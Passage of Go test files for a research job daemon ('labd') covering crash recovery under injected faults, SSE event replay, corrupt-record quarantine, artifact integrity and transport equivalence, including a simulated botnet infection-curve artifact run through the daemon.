	for body.Scan() {
		line := body.Text()
		stage, ok := strings.CutPrefix(line, "event: ")
		if !ok {
			continue
		}
		stages = append(stages, stage)
		if stop != nil && stop(stage) {
			break
		}
	}
	return stages
}

// TestSSEStreamAcrossRestart drives the satellite end-to-end: a client
// watching a run's live SSE stream over real HTTP loses the connection
// when the daemon is killed mid-run, reconnects to the restarted
// daemon, and sees the full ordered timeline — including the retrying
// stage from before the crash and the resumed stage recovery appended.
//
// Not parallel: owns the flaky-trip gate.
func TestSSEStreamAcrossRestart(t *testing.T) {
	dir := t.TempDir()
	noop := func(time.Duration) {}
	_, wantSHA := batchRender(t, "labd-t-flaky-ckpt", "text", nil)

	// Writes: record queued (1), running (2), retrying (3, transient
	// trip), checkpoint chunk (4), rendering (5), artifact (6) — killed.
	flakyTrip.Store(true)
	ctrl := chaos.New(scenarioSeed("sse-restart", 6, 1))
	ctrl.ArmAt(chaos.SiteWrite, 6, chaos.Crash)
	srv1, err := labd.Open(labd.Config{
		StoreDir: dir, Fleets: 1, Workers: 1,
		Chaos: ctrl, FS: chaos.BindFS(ctrl),
		Now: fakeClock(), Sleep: noop,
	})
	if err != nil {
		t.Fatal(err)
	}
	base1, shutdown1, err := srv1.Serve()
	if err != nil {
		t.Fatal(err)
	}
	rec, err := srv1.Enqueue(labd.EnqueueRequest{Spec: "labd-t-flaky-ckpt"})
	if err != nil {
		t.Fatal(err)
	}

	resp, err := http.Get(base1 + "/v1/runs/" + rec.ID + "/events")
	if err != nil {
		t.Fatal(err)
	}
	live := readSSEStages(bufio.NewScanner(resp.Body), func(stage string) bool {
		return stage == string(labd.StatusRetrying)
	})
	if len(live) == 0 || live[len(live)-1] != string(labd.StatusRetrying) {
		t.Fatalf("live stream never delivered retrying: %v", live)
	}
	deadline := time.Now().Add(30 * time.Second)
	for !ctrl.Killed() {
		if time.Now().After(deadline) {
			t.Fatal("kill-point never fired")
		}
		time.Sleep(time.Millisecond)
	}
	resp.Body.Close()
	if err := shutdown1(); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	_ = srv1.Close(ctx)
	cancel()

	// Reboot over the debris and reconnect: the replayed stream must
	// carry the whole timeline in order, then close after the terminal.
	srv2 := openServer(t, labd.Config{StoreDir: dir, Fleets: 1, Workers: 1, Sleep: noop})
	base2, shutdown2, err := srv2.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown2()
	final := waitDone(t, srv2, rec.ID)
	if final.Status != labd.StatusDone || final.SHA256 != wantSHA {
		t.Fatalf("resumed run = %s sha %s (%q), want done with batch fingerprint %s",
			final.Status, final.SHA256, final.Error, wantSHA)
	}
	resp2, err := http.Get(base2 + "/v1/runs/" + rec.ID + "/events")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	replayed := readSSEStages(bufio.NewScanner(resp2.Body), nil)
	want := []string{"queued", "running", "retrying", "rendering", "resumed", "running", "rendering", "done"}
	if fmt.Sprint(replayed) != fmt.Sprint(want) {
		t.Fatalf("replayed timeline = %v, want %v", replayed, want)
	}
}

// TestStoreFailFaultsSurfaceCleanly covers the survivable (Fail) fault
// kinds: an injected ENOSPC or torn write makes the operation fail with
// a classifiable error, the daemon stays alive, the sequence number is
// consumed, and the next restart sweeps whatever debris the short
// write left behind.
func TestStoreFailFaultsSurfaceCleanly(t *testing.T) {
	t.Parallel()
	for _, site := range []string{chaos.SiteWrite, chaos.SiteWriteShort, chaos.SiteSync, chaos.SiteRename, chaos.SiteSyncDir} {
		site := site
		t.Run(site, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			ctrl := chaos.New(scenarioSeed(site, 1, 1))
			ctrl.ArmAt(site, 1, chaos.Fail)
			srv, err := labd.Open(labd.Config{
				StoreDir: dir, Fleets: 1, Workers: 1,
				Chaos: ctrl, FS: chaos.BindFS(ctrl),
				Now: fakeClock(), Sleep: func(time.Duration) {},
			})
			if err != nil {
				t.Fatal(err)
			}
			_, err = srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
			if err == nil {
				t.Fatalf("enqueue through a failing %s succeeded", site)
			}
			if !errors.Is(err, chaos.ErrInjected) {
				t.Fatalf("fault not classifiable as injected: %v", err)
			}
			if (site == chaos.SiteWrite || site == chaos.SiteWriteShort) && !errors.Is(err, chaos.ErrNoSpace) {
				t.Fatalf("write fault not classified ENOSPC: %v", err)
			}
			if ctrl.Killed() {
				t.Fatal("a Fail fault latched the controller killed")
			}
			// The daemon survives and the next enqueue works — on a fresh
			// sequence number; the failed one is burned, never reissued.
			rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
			if err != nil {
				t.Fatal(err)
			}
			if rec.ID != "run-000002" {
				t.Fatalf("post-fault enqueue got %s, want run-000002 (seq 1 burned)", rec.ID)
			}
			if waitDone(t, srv, rec.ID).Status != labd.StatusDone {
				t.Fatal("post-fault run did not finish")
			}
			closeServer(t, srv)

			// A restart over the debris sweeps any torn .tmp and serves
			// the surviving run.
			srv2 := openServer(t, labd.Config{StoreDir: dir})
			if got, ok := srv2.Get(rec.ID); !ok || got.Status != labd.StatusDone {
				t.Fatalf("surviving run lost after restart: %+v", got)
			}
			entries, err := os.ReadDir(dir)
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range entries {
				if strings.HasSuffix(e.Name(), ".tmp") {
					t.Fatalf("torn-write debris %s not swept on restart", e.Name())
				}
			}
		})
	}
}
