package labd_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"masterparasite/internal/labd"
)

// TestStoreReloadServesFinishedRuns locks durability: a done run's
// record and rendered artifact survive a daemon restart byte-for-byte.
func TestStoreReloadServesFinishedRuns(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	srv := openServer(t, labd.Config{StoreDir: dir})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok", Format: "csv"})
	if err != nil {
		t.Fatal(err)
	}
	final := waitDone(t, srv, rec.ID)
	body, _, err := srv.Artifact(rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := srv.Close(ctx); err != nil {
		t.Fatal(err)
	}

	srv2 := openServer(t, labd.Config{StoreDir: dir})
	got, ok := srv2.Get(rec.ID)
	if !ok {
		t.Fatalf("record %s lost across restart", rec.ID)
	}
	if got.Status != labd.StatusDone || got.SHA256 != final.SHA256 || len(got.Stages) != len(final.Stages) {
		t.Fatalf("reloaded record diverges:\ngot  %+v\nwant %+v", got, final)
	}
	body2, _, err := srv2.Artifact(rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	if string(body2) != string(body) {
		t.Fatal("reloaded artifact bytes diverge")
	}
	// New runs must not reuse IDs from the previous process.
	rec2, err := srv2.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
	if err != nil {
		t.Fatal(err)
	}
	if rec2.ID <= rec.ID {
		t.Fatalf("restarted server reused ID space: %s after %s", rec2.ID, rec.ID)
	}
}

// TestRestartRecovery locks the crash contract: runs still queued when
// the process died are resumed and executed by the next process; runs
// that were mid-flight latch a durable "interrupted by restart" failure.
func TestRestartRecovery(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	store, err := labd.OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	queued := &labd.Record{
		ID: "run-000007", Spec: "labd-t-ok", Format: "text",
		Params: map[string]int{"labd-n": 2, "labd-seed": 1},
		Status: labd.StatusQueued,
		Stages: []labd.Stage{{Stage: labd.StatusQueued, At: at}},
	}
	running := &labd.Record{
		ID: "run-000003", Spec: "labd-t-ok", Format: "text",
		Params: map[string]int{"labd-n": 2, "labd-seed": 1},
		Status: labd.StatusRunning,
		Stages: []labd.Stage{
			{Stage: labd.StatusQueued, At: at},
			{Stage: labd.StatusRunning, At: at.Add(time.Second)},
		},
	}
	for _, r := range []*labd.Record{queued, running} {
		if err := store.PutRecord(r); err != nil {
			t.Fatal(err)
		}
	}
	// A crash mid-write leaves a .tmp file; Open must sweep it.
	tmp := filepath.Join(dir, "run-000009.json.tmp")
	if err := os.WriteFile(tmp, []byte(`{"id":"run-0000`), 0o644); err != nil {
		t.Fatal(err)
	}

	srv := openServer(t, labd.Config{StoreDir: dir})
	interrupted, ok := srv.Get("run-000003")
	if !ok || interrupted.Status != labd.StatusFailed || !strings.Contains(interrupted.Error, "interrupted by restart") {
		t.Fatalf("mid-flight run not latched failed: %+v", interrupted)
	}
	resumed := waitDone(t, srv, "run-000007")
	if resumed.Status != labd.StatusDone {
		t.Fatalf("queued run not resumed: %+v", resumed)
	}
	if _, err := os.Stat(tmp); !os.IsNotExist(err) {
		t.Fatalf("stale .tmp not swept: %v", err)
	}
	// Fresh IDs start after the highest recovered sequence.
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
	if err != nil {
		t.Fatal(err)
	}
	if rec.ID != "run-000008" {
		t.Fatalf("next ID = %s, want run-000008", rec.ID)
	}
}
