package labd_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"masterparasite/internal/labd"
)

// TestStoreReloadServesFinishedRuns locks durability: a done run's
// record and rendered artifact survive a daemon restart byte-for-byte.
func TestStoreReloadServesFinishedRuns(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	srv := openServer(t, labd.Config{StoreDir: dir})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok", Format: "csv"})
	if err != nil {
		t.Fatal(err)
	}
	final := waitDone(t, srv, rec.ID)
	body, _, err := srv.Artifact(rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := srv.Close(ctx); err != nil {
		t.Fatal(err)
	}

	srv2 := openServer(t, labd.Config{StoreDir: dir})
	got, ok := srv2.Get(rec.ID)
	if !ok {
		t.Fatalf("record %s lost across restart", rec.ID)
	}
	if got.Status != labd.StatusDone || got.SHA256 != final.SHA256 || len(got.Stages) != len(final.Stages) {
		t.Fatalf("reloaded record diverges:\ngot  %+v\nwant %+v", got, final)
	}
	body2, _, err := srv2.Artifact(rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	if string(body2) != string(body) {
		t.Fatal("reloaded artifact bytes diverge")
	}
	// New runs must not reuse IDs from the previous process.
	rec2, err := srv2.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
	if err != nil {
		t.Fatal(err)
	}
	if rec2.ID <= rec.ID {
		t.Fatalf("restarted server reused ID space: %s after %s", rec2.ID, rec.ID)
	}
}

// TestRestartRecovery locks the crash contract: runs still queued when
// the process died are resumed and executed by the next process; runs
// that were mid-flight latch a durable "interrupted by restart" failure.
func TestRestartRecovery(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	store, err := labd.OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	queued := &labd.Record{
		ID: "run-000007", Spec: "labd-t-ok", Format: "text",
		Params: map[string]int{"labd-n": 2, "labd-seed": 1},
		Status: labd.StatusQueued,
		Stages: []labd.Stage{{Stage: labd.StatusQueued, At: at}},
	}
	running := &labd.Record{
		ID: "run-000003", Spec: "labd-t-ok", Format: "text",
		Params: map[string]int{"labd-n": 2, "labd-seed": 1},
		Status: labd.StatusRunning,
		Stages: []labd.Stage{
			{Stage: labd.StatusQueued, At: at},
			{Stage: labd.StatusRunning, At: at.Add(time.Second)},
		},
	}
	for _, r := range []*labd.Record{queued, running} {
		if err := store.PutRecord(r); err != nil {
			t.Fatal(err)
		}
	}
	// A crash mid-write leaves a .tmp file; Open must sweep it.
	tmp := filepath.Join(dir, "run-000009.json.tmp")
	if err := os.WriteFile(tmp, []byte(`{"id":"run-0000`), 0o644); err != nil {
		t.Fatal(err)
	}

	srv := openServer(t, labd.Config{StoreDir: dir})
	interrupted, ok := srv.Get("run-000003")
	if !ok || interrupted.Status != labd.StatusFailed || !strings.Contains(interrupted.Error, "interrupted by restart") {
		t.Fatalf("mid-flight run not latched failed: %+v", interrupted)
	}
	resumed := waitDone(t, srv, "run-000007")
	if resumed.Status != labd.StatusDone {
		t.Fatalf("queued run not resumed: %+v", resumed)
	}
	if _, err := os.Stat(tmp); !os.IsNotExist(err) {
		t.Fatalf("stale .tmp not swept: %v", err)
	}
	// Fresh IDs start after the highest recovered sequence.
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
	if err != nil {
		t.Fatal(err)
	}
	if rec.ID != "run-000008" {
		t.Fatalf("next ID = %s, want run-000008", rec.ID)
	}
}

// TestLoadQuarantinesCorruptRecords is the truncated-JSON regression:
// recovery over a store holding one valid record and one torn record
// must quarantine the torn file to .corrupt, keep serving the valid
// run, and never reissue the quarantined sequence number.
func TestLoadQuarantinesCorruptRecords(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	srv := openServer(t, labd.Config{StoreDir: dir})
	var ids []string
	for i := 0; i < 2; i++ {
		rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, rec.ID)
	}
	for _, id := range ids {
		if waitDone(t, srv, id).Status != labd.StatusDone {
			t.Fatalf("run %s did not finish", id)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := srv.Close(ctx); err != nil {
		t.Fatal(err)
	}

	// Tear the second record mid-JSON, as a pre-checksum crash would.
	victim := filepath.Join(dir, ids[1]+".json")
	b, err := os.ReadFile(victim)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(victim, b[:len(b)/2], 0o644); err != nil {
		t.Fatal(err)
	}

	srv2 := openServer(t, labd.Config{StoreDir: dir})
	if got, ok := srv2.Get(ids[0]); !ok || got.Status != labd.StatusDone {
		t.Fatalf("valid run lost alongside the corrupt one: %+v", got)
	}
	if _, ok := srv2.Get(ids[1]); ok {
		t.Fatalf("corrupt record %s still served", ids[1])
	}
	if _, err := os.Stat(victim + ".corrupt"); err != nil {
		t.Fatalf("corrupt record not quarantined: %v", err)
	}
	q := srv2.Store().Quarantined()
	if len(q) != 1 || q[0] != ids[1]+".json" {
		t.Fatalf("quarantine report = %v, want [%s.json]", q, ids[1])
	}
	// The quarantined file still pins its sequence number.
	rec, err := srv2.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
	if err != nil {
		t.Fatal(err)
	}
	if rec.ID != "run-000003" {
		t.Fatalf("fresh run = %s, want run-000003 (quarantined seq must stay burned)", rec.ID)
	}
}

// TestCheckpointRoundTrip locks the checkpoint file format: committed
// chunks survive a store reopen, and a corrupted checkpoint is
// quarantined and treated as empty (recompute, never corrupt).
func TestCheckpointRoundTrip(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	store, err := labd.OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	ck := store.Checkpoint("run-000042")
	if err := ck.Commit("chunk:v1:8:0-4", []byte(`[1,2,3,4]`)); err != nil {
		t.Fatal(err)
	}
	if err := ck.Commit("chunk:v1:8:4-8", []byte(`[5,6,7,8]`)); err != nil {
		t.Fatal(err)
	}

	store2, err := labd.OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	ck2 := store2.Checkpoint("run-000042")
	if ck2.Len() != 2 {
		t.Fatalf("reloaded checkpoint holds %d chunks, want 2", ck2.Len())
	}
	if b, ok := ck2.Lookup("chunk:v1:8:4-8"); !ok || string(b) != `[5,6,7,8]` {
		t.Fatalf("chunk lookup = %q, %v", b, ok)
	}
	if _, ok := ck2.Lookup("chunk:v1:9:0-4"); ok {
		t.Fatal("layout-mismatched key resolved")
	}

	// Flip a byte inside the sealed body: the checksum must catch it.
	path := filepath.Join(dir, "run-000042.ckpt")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)/3] ^= 0x40
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	store3, err := labd.OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	ck3 := store3.Checkpoint("run-000042")
	if ck3.Len() != 0 {
		t.Fatalf("corrupt checkpoint served %d chunks, want 0", ck3.Len())
	}
	if _, err := os.Stat(path + ".corrupt"); err != nil {
		t.Fatalf("corrupt checkpoint not quarantined: %v", err)
	}

	store.RemoveCheckpoint("run-000042")
}

// TestArtifactCorruptionDetected locks the serve-side integrity check:
// artifact bytes that no longer hash to the record's fingerprint are
// refused, never served.
func TestArtifactCorruptionDetected(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	srv := openServer(t, labd.Config{StoreDir: dir})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
	if err != nil {
		t.Fatal(err)
	}
	if waitDone(t, srv, rec.ID).Status != labd.StatusDone {
		t.Fatal("run did not finish")
	}
	if _, _, err := srv.Artifact(rec.ID); err != nil {
		t.Fatalf("pristine artifact refused: %v", err)
	}
	path := filepath.Join(dir, rec.ID+".out")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b[0] ^= 0x01
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := srv.Artifact(rec.ID); err == nil || !strings.Contains(err.Error(), "corrupted") {
		t.Fatalf("corrupted artifact served: err = %v", err)
	}
}
