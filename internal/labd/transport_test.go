package labd_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"masterparasite/internal/artifact"
	_ "masterparasite/internal/experiments" // registers the paper's artifacts (flows)
	"masterparasite/internal/httpsim"
	"masterparasite/internal/labd"
	"masterparasite/internal/netsim"
	"masterparasite/internal/runner"
	"masterparasite/internal/tcpsim"
)

// doFunc issues one API request over some transport and returns the
// transport-independent response triple.
type doFunc func(t *testing.T, method, path string, body []byte) labd.Response

// inprocTransport dispatches through the in-process Client.
func inprocTransport(srv *labd.Server) doFunc {
	client := labd.NewClient(srv)
	return func(_ *testing.T, method, path string, body []byte) labd.Response {
		return client.Do(method, path, body)
	}
}

// simTransport serves the API over httpsim inside a two-host netsim
// world and issues each request as real HTTP/1.1 bytes across the
// simulated segment.
func simTransport(t *testing.T, srv *labd.Server) doFunc {
	t.Helper()
	world := netsim.New()
	seg := world.MustSegment("lab-lan", 200*time.Microsecond)
	srvStack := tcpsim.NewStack(world, seg.MustAttach("10.0.0.2", 0, nil), tcpsim.WithSeed(7))
	if _, err := httpsim.NewServer(srvStack, 80, labd.Adapter(srv)); err != nil {
		t.Fatal(err)
	}
	cliStack := tcpsim.NewStack(world, seg.MustAttach("10.0.0.1", 0, nil), tcpsim.WithSeed(9))
	client := httpsim.NewClient(cliStack)
	return func(t *testing.T, method, path string, body []byte) labd.Response {
		t.Helper()
		req := httpsim.NewRequest(method, "labd.sim", path)
		req.Body = body
		var out labd.Response
		got := false
		client.Do("10.0.0.2", 80, req, func(resp *httpsim.Response, err error) {
			if err != nil {
				t.Errorf("sim request %s %s: %v", method, path, err)
				return
			}
			out = labd.Response{
				Status:      resp.StatusCode,
				ContentType: resp.Header.Get("Content-Type"),
				Body:        append([]byte(nil), resp.Body...),
			}
			got = true
		})
		world.Run(0)
		if !got {
			t.Fatalf("sim request %s %s: no response delivered", method, path)
		}
		return out
	}
}

// httpTransport serves the daemon on a real loopback socket and issues
// each request through net/http.
func httpTransport(t *testing.T, srv *labd.Server) doFunc {
	t.Helper()
	base, shutdown, err := srv.Serve()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = shutdown() })
	return func(t *testing.T, method, path string, body []byte) labd.Response {
		t.Helper()
		req, err := http.NewRequest(method, base+path, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("%s %s: %v", method, path, err)
		}
		defer resp.Body.Close()
		respBody, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return labd.Response{
			Status:      resp.StatusCode,
			ContentType: resp.Header.Get("Content-Type"),
			Body:        respBody,
		}
	}
}

// driveScript runs the deterministic request sequence every transport
// must answer identically: health, spec introspection, enqueue, then —
// after the run completes — record, events, artifact, and the run list.
func driveScript(t *testing.T, srv *labd.Server, do doFunc) []labd.Response {
	t.Helper()
	var out []labd.Response
	step := func(method, path string, body []byte) {
		out = append(out, do(t, method, path, body))
	}
	step("GET", "/healthz", nil)
	step("GET", "/readyz", nil)
	step("GET", "/v1/specs", nil)
	step("GET", "/v1/specs/labd-t-ok", nil)
	step("GET", "/v1/specs/labd-t-missing", nil)
	step("POST", "/v1/runs", []byte(`{"spec":"labd-t-ok","params":{"labd-n":4},"format":"json"}`))
	step("POST", "/v1/runs", []byte(`{"spec":"nope"}`))

	waitDone(t, srv, "run-000001")
	step("GET", "/v1/runs/run-000001", nil)
	step("GET", "/v1/runs/run-000001/events", nil)
	step("GET", "/v1/runs/run-000001/artifact", nil)
	step("GET", "/v1/runs", nil)
	step("GET", "/v1/runs/run-999999", nil)
	step("PUT", "/v1/runs", nil)
	return out
}

// TestTransportsAreByteIdentical is the seam proof: the same request
// sequence against three fresh daemons — one per transport, all with
// the same deterministic clock — produces byte-identical status,
// content type, and body at every step, and the served artifact
// fingerprint equals the batch CLI's manifest entry.
func TestTransportsAreByteIdentical(t *testing.T) {
	t.Parallel()
	transports := []struct {
		name string
		run  func(t *testing.T, srv *labd.Server) doFunc
	}{
		{"inproc", func(_ *testing.T, srv *labd.Server) doFunc { return inprocTransport(srv) }},
		{"httpsim", simTransport},
		{"nethttp", httpTransport},
	}
	results := make([][]labd.Response, len(transports))
	for i, tr := range transports {
		srv := openServer(t, labd.Config{Workers: 1})
		results[i] = driveScript(t, srv, tr.run(t, srv))
	}
	for i := 1; i < len(results); i++ {
		if len(results[i]) != len(results[0]) {
			t.Fatalf("%s answered %d steps, %s answered %d",
				transports[i].name, len(results[i]), transports[0].name, len(results[0]))
		}
		for step := range results[i] {
			a, b := results[0][step], results[i][step]
			if a.Status != b.Status || a.ContentType != b.ContentType || !bytes.Equal(a.Body, b.Body) {
				t.Errorf("step %d: %s and %s diverge:\n%s: %d %s %q\n%s: %d %s %q",
					step, transports[0].name, transports[i].name,
					transports[0].name, a.Status, a.ContentType, a.Body,
					transports[i].name, b.Status, b.ContentType, b.Body)
			}
		}
	}

	// The artifact step (index 9) must match the batch CLI byte-for-byte.
	spec, _ := artifact.Get("labd-t-ok")
	renderer, _ := artifact.RendererFor("json")
	res, rendered, err := artifact.RunRendered(spec, runner.New(1), map[string]int{"labd-n": 4}, renderer)
	if err != nil {
		t.Fatal(err)
	}
	manifest := artifact.NewManifest("json", 1)
	manifest.Add(spec, res, rendered)
	if got := results[0][9]; !bytes.Equal(got.Body, rendered) {
		t.Fatalf("served artifact diverges from batch render:\n%q\nvs\n%q", got.Body, rendered)
	}
	if got, want := artifact.Fingerprint(results[0][9].Body), manifest.Artifacts[0].SHA256; got != want {
		t.Fatalf("served fingerprint %s != batch manifest %s", got, want)
	}
}

// TestRealArtifactOverRealHTTPMatchesBatchManifest enqueues a genuine
// registry artifact (the paper's message-flows figure) through the real
// net/http daemon and asserts the rendered bytes carry the same SHA-256
// the batch CLI's manifest records — the acceptance criterion verbatim.
func TestRealArtifactOverRealHTTPMatchesBatchManifest(t *testing.T) {
	t.Parallel()
	srv := openServer(t, labd.Config{Workers: 1})
	do := httpTransport(t, srv)

	resp := do(t, "POST", "/v1/runs", []byte(`{"spec":"flows","format":"text"}`))
	if resp.Status != http.StatusAccepted {
		t.Fatalf("enqueue = %d %q", resp.Status, resp.Body)
	}
	if !strings.Contains(string(resp.Body), `"id": "run-000001"`) {
		t.Fatalf("enqueue response: %q", resp.Body)
	}
	final := waitDone(t, srv, "run-000001")
	if final.Status != labd.StatusDone {
		t.Fatalf("flows run failed: %+v", final)
	}

	got := do(t, "GET", "/v1/runs/run-000001/artifact", nil)
	spec, _ := artifact.Get("flows")
	renderer, _ := artifact.RendererFor("text")
	res, rendered, err := artifact.RunRendered(spec, runner.New(1), nil, renderer)
	if err != nil {
		t.Fatal(err)
	}
	manifest := artifact.NewManifest("text", 1)
	manifest.Add(spec, res, rendered)
	if !bytes.Equal(got.Body, rendered) {
		t.Fatal("flows artifact served over net/http diverges from the batch render")
	}
	if final.SHA256 != manifest.Artifacts[0].SHA256 {
		t.Fatalf("served fingerprint %s != batch manifest %s", final.SHA256, manifest.Artifacts[0].SHA256)
	}
}

// TestFleetArtifactThroughDaemon drives a sharded-netsim fleet artifact
// through the real net/http daemon: the slash-scoped spec route must
// resolve fleet/infection-curve, the run must complete with the LAN/bot
// overrides applied, and the served bytes must fingerprint identically
// to the batch render — the same byte-identity contract the -parallel
// flag promises (the daemon's worker pool doubles as the fabric's shard
// worker count).
func TestFleetArtifactThroughDaemon(t *testing.T) {
	t.Parallel()
	srv := openServer(t, labd.Config{Workers: 4})
	do := httpTransport(t, srv)

	if resp := do(t, "GET", "/v1/specs/fleet/infection-curve", nil); resp.Status != http.StatusOK {
		t.Fatalf("slash-scoped spec route = %d %q", resp.Status, resp.Body)
	}
	resp := do(t, "POST", "/v1/runs", []byte(`{"spec":"fleet/infection-curve","params":{"lans":3,"bots":40},"format":"text"}`))
	if resp.Status != http.StatusAccepted {
		t.Fatalf("enqueue = %d %q", resp.Status, resp.Body)
	}
	final := waitDone(t, srv, "run-000001")
	if final.Status != labd.StatusDone {
		t.Fatalf("fleet run failed: %+v", final)
	}

	got := do(t, "GET", "/v1/runs/run-000001/artifact", nil)
	spec, _ := artifact.Get("fleet/infection-curve")
	renderer, _ := artifact.RendererFor("text")
	res, rendered, err := artifact.RunRendered(spec, runner.New(1), map[string]int{"lans": 3, "bots": 40}, renderer)
	if err != nil {
		t.Fatal(err)
	}
	manifest := artifact.NewManifest("text", 1)
	manifest.Add(spec, res, rendered)
	if !bytes.Equal(got.Body, rendered) {
		t.Fatalf("fleet artifact served over net/http diverges from the sequential batch render:\n%q\nvs\n%q", got.Body, rendered)
	}
	if final.SHA256 != manifest.Artifacts[0].SHA256 {
		t.Fatalf("served fingerprint %s != batch manifest %s", final.SHA256, manifest.Artifacts[0].SHA256)
	}
}

// TestLiveSSEMatchesSnapshot subscribes to a run's event stream over a
// real socket while the run executes: the streamed bytes, read live
// until the server closes the stream after the terminal event, must
// equal the transport-independent Route snapshot of the finished run.
func TestLiveSSEMatchesSnapshot(t *testing.T) {
	t.Parallel()
	srv := openServer(t, labd.Config{Fleets: 1, Workers: 1})
	base, shutdown, err := srv.Serve()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = shutdown() })

	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Get(base + "/v1/runs/" + rec.ID + "/events")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("content type = %q", ct)
	}
	streamed, err := io.ReadAll(resp.Body) // returns at terminal-event close
	if err != nil {
		t.Fatal(err)
	}

	status, ctype, snapshot := srv.Route("GET", "/v1/runs/"+rec.ID+"/events", nil, nil)
	if status != http.StatusOK || ctype != "text/event-stream" {
		t.Fatalf("snapshot route = %d %s", status, ctype)
	}
	if !bytes.Equal(streamed, snapshot) {
		t.Fatalf("live SSE stream diverges from snapshot:\nlive:\n%s\nsnapshot:\n%s", streamed, snapshot)
	}
	for _, want := range []string{"event: queued", "event: running", "event: rendering", "event: done", "sha256:"} {
		if !strings.Contains(string(streamed), want) {
			t.Errorf("stream missing %q:\n%s", want, streamed)
		}
	}
}

// TestConcurrentClientsOverRealHTTP is the race gate: many concurrent
// clients enqueue runs, stream their events, poll records, and fetch
// artifacts over a real socket while two fleets drain the queue. Run
// under -race this exercises every cross-goroutine seam in the daemon.
func TestConcurrentClientsOverRealHTTP(t *testing.T) {
	t.Parallel()
	srv := openServer(t, labd.Config{Fleets: 2, Workers: 1, Now: time.Now})
	base, shutdown, err := srv.Serve()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = shutdown() })

	const clients = 8
	var wg sync.WaitGroup
	errs := make(chan error, clients)
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			fail := func(format string, args ...any) {
				errs <- fmt.Errorf("client %d: "+format, append([]any{c}, args...)...)
			}
			body := fmt.Sprintf(`{"spec":"labd-t-ok","params":{"labd-n":%d,"labd-seed":%d},"format":"json"}`, c+1, c+2)
			resp, err := http.Post(base+"/v1/runs", "application/json", strings.NewReader(body))
			if err != nil {
				fail("enqueue: %v", err)
				return
			}
			enq, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusAccepted {
				fail("enqueue = %d %q", resp.StatusCode, enq)
				return
			}
			id := runIDFromJSON(string(enq))
			if id == "" {
				fail("no id in %q", enq)
				return
			}

			// Stream events until the terminal stage closes the body.
			stream, err := http.Get(base + "/v1/runs/" + id + "/events")
			if err != nil {
				fail("stream: %v", err)
				return
			}
			sse, _ := io.ReadAll(stream.Body)
			stream.Body.Close()
			if !strings.Contains(string(sse), "event: done") {
				fail("stream ended without done:\n%s", sse)
				return
			}

			// The record must now be terminal and the artifact match the
			// batch render for this client's params.
			rec, err := http.Get(base + "/v1/runs/" + id)
			if err != nil {
				fail("record: %v", err)
				return
			}
			recBody, _ := io.ReadAll(rec.Body)
